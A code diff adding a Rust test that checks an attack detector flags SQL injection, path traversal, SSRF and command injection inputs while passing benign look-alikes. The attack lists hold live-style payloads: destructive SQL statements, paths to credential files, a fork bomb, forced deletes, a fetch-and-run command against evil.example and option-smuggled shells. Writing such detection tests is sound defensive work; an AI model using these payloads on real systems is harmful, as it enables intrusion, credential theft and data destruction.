@@ -1443,3 +1443,80 @@ fn review_hunt_shapes() {
         Context::Auto,
     );
 }
+
+/// Shapes of the session after: statements of any keyword between a breakout and a comment, a
+/// CTE that writes, sensitive files wherever they are, SSRF URL schemes, a shell named by a
+/// variable, empty expansions inside a command word, PowerShell cmdlets, programs run from a
+/// temporary folder, options that make a program run a command.
+#[test]
+fn second_hunt_shapes() {
+    assert_attacks(
+        &[
+            "'; TABLE users;--",
+            "'; LOCK TABLE orders IN ACCESS EXCLUSIVE MODE;--",
+            "'; SET GLOBAL general_log='ON';--",
+            "'; ROLLBACK;--",
+            "'); SHOW ALL;--",
+            "'; WITH d AS (DELETE FROM orders RETURNING *) SELECT 1",
+            "1; WITH x AS (UPDATE accounts SET balance = 0 RETURNING id) SELECT count(*) FROM x",
+        ],
+        Class::Sqli,
+    );
+    assert_attacks(
+        &[
+            "/var/www/html/.env",
+            "/var/lib/postgresql/.psql_history",
+            "C:\\ProgramData\\MySQL\\MySQL Server 8.0\\my.ini",
+            "/var/run/docker.sock",
+            "/etc/kubernetes/admin.conf",
+            "C:\\Windows\\NTDS\\ntds.dit",
+            "/home/app/.aws/credentials",
+            "/dev/tcp/10.0.0.5/4444",
+            "gopher://127.0.0.1:6379/_FLUSHALL",
+            "dict://127.0.0.1:11211/stats",
+        ],
+        Class::Traversal,
+    );
+    assert_attacks(
+        &[
+            ";$0 -c id",
+            ";${SHELL} -c id",
+            "&%COMSPEC% /c whoami",
+            "&%windir%\\system32\\whoami.exe",
+            ";i$()d",
+            ";who$@ami",
+            ";i${x}d",
+            "| Get-ChildItem C:\\Users",
+            ";Remove-Item -Recurse -Force C:\\data",
+            "; [System.Diagnostics.Process]::Start('calc.exe')",
+            "& iex(irm http://evil.example/a)",
+            ";chmod +x /tmp/x;/tmp/x",
+            "x%0a./x.sh",
+            ";unset HISTFILE",
+            ";a=i;b=d;$a$b",
+            ";:(){ :|:& };:",
+            "-oProxyCommand=\"sh -c id\"",
+            "--checkpoint=1 --checkpoint-action=exec=sh shell.sh",
+            "&cmd/c whoami",
+            "& rd /s /q C:\\data",
+        ],
+        Class::Cmdi,
+    );
+    assert_benign(
+        &[
+            "/var/lib/postgresql/15/main",
+            "/srv/exports/trades_2024.csv",
+            "/opt/app/logs/app.log",
+            "Filled; table it for tomorrow",
+            "Q3 review; with Ken as lead",
+            "'Rollback' was the word; no comment",
+            "cost $@ 5 per share; ok",
+            "Long | Get-Ahead fund",
+            "env=prod; region=eu; $total",
+            "see ./docs for details",
+            "Run `chmod +x d/t/cryptdisks` for consistency.",
+            "ldap://ldap.corp.example/ou=traders",
+        ],
+        Context::Auto,
+    );
+}
